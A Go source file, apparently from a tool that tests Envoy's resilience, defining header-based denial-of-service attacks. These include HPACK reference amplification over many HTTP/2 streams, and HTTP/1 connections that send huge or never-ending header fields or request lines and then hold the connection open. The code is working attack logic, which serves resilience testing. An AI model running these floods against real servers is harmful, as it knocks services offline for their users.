// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"fmt"
	"strings"

	"golang.org/x/net/http2/hpack"
)

// headerAttacks fill Envoy with header fields.
func headerAttacks() []attack {
	return []attack{
		{
			Name: "1 hpack", What: "1 HTTP/2 connection, 200 requests of 2,000 references to a header field of 4 kB",
			port: httpDeaf, Short: true, run: references(1, 200, 2_000),
		},
		{
			Name: "1 hpack-within", What: "40 HTTP/2 connections, 200 requests each of 30 references to a header field of 4 kB",
			port: httpDeaf, run: references(40, 200, 30),
		},
		{
			Name: "1 hpack-tiny", What: "10 HTTP/2 connections, 100 requests each of 10,000 references to a tiny header field",
			port: httpDeaf, run: tinyFields(10, 100, 10_000),
		},
		{
			Name: "3 headers", What: "150 HTTP/1 connections with 8 MiB of header fields each, without an end",
			port: httpDeaf, run: longHeaders(150, 8<<20-64<<10),
		},
		{
			Name: "3 headers-within", What: "1,000 HTTP/1 connections with 120 KiB of header fields each, without an end",
			port: httpDeaf, Short: true, run: longHeaders(1_000, 120<<10),
		},
		{
			Name: "3 headers-detect", What: "150 connections to a port whose protocol is detected, with 8 MiB of header fields each",
			port: detectDeaf, lingers: true, run: longHeaders(150, 8<<20-64<<10),
		},
		{
			Name: "3 tiny-fields", What: "500 HTTP/1 connections with 50,000 tiny header fields each, without an end",
			port: httpDeaf, run: tinyHeaders(500, 50_000),
		},
		{
			Name: "3 request-line", What: "500 HTTP/1 connections with a request line of 1 MiB, without an end",
			port: httpDeaf, run: longLine(500, 1<<20),
		},
	}
}

// largeField all but fills the table of HPACK, of 4,096 bytes. Beside it there is the
// authority.
func largeField() hpack.HeaderField {
	return hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4_096-32-1-64)}
}

// newest are references to the newest field in the table of HPACK: each is a byte on
// the wire.
func newest(number int) []byte { return bytes.Repeat([]byte{0x80 | 62}, number) }

// references makes requests whose header is mostly references to one large field.
func references(connections, streams, each int) func(context.Context, *attacker) error {
	return refer(largeField(), connections, streams, each)
}

// tinyFields is references to a field that is as small as can be: what counts is
// what a field costs beside its bytes.
func tinyFields(connections, streams, each int) func(context.Context, *attacker) error {
	return refer(hpack.HeaderField{Name: "x", Value: "1"}, connections, streams, each)
}

func refer(to hpack.HeaderField, connections, streams, each int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.each(ctx, connections, func(ctx context.Context) error {
			h, err := a.dialH2(ctx)
			if err != nil {
				return err
			}
			// The first request puts the field into the table, where it stays the
			// newest: all others of the next requests are there already.
			first, err := h.fields(to)
			if err != nil {
				return err
			}
			if _, err := h.request(first, false); err != nil {
				return h.why(err)
			}
			again, err := h.fields()
			if err != nil {
				return err
			}
			again = append(again, newest(each)...)
			for range streams {
				if _, err := h.request(again, false); err != nil {
					return h.why(err)
				}
			}
			return h.hold(ctx)
		})
	}
}

// longHeaders sends a request's header without its end.
func longHeaders(connections, size int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		field := fmt.Sprintf("x-%04d: %s\r\n", 0, strings.Repeat("v", 8_000))
		return a.each(ctx, connections, func(ctx context.Context) error {
			return a.unended(ctx, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n", a.target()), field, size)
		})
	}
}

// tinyHeaders sends as many header fields as there can be in few bytes.
func tinyHeaders(connections, number int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		const field = "x:1\r\n"
		return a.each(ctx, connections, func(ctx context.Context) error {
			return a.unended(ctx, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n", a.target()), strings.Repeat(field, 100), number*len(field))
		})
	}
}

// longLine sends a request line without its end.
func longLine(connections, size int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.each(ctx, connections, func(ctx context.Context) error {
			return a.unended(ctx, "GET /", strings.Repeat("p", 8_000), size)
		})
	}
}

// unended writes a start, and as many parts as make up the size, and waits.
func (a *attacker) unended(ctx context.Context, start, part string, size int) error {
	c, err := a.dial(ctx)
	if err != nil {
		return err
	}
	a.requests.Add(1)
	if _, err := c.Write([]byte(start)); err != nil {
		return err
	}
	for n := 0; n < size; n += len(part) {
		if _, err := c.Write([]byte(part)); err != nil {
			return err
		}
	}
	return hold(ctx, c)
}
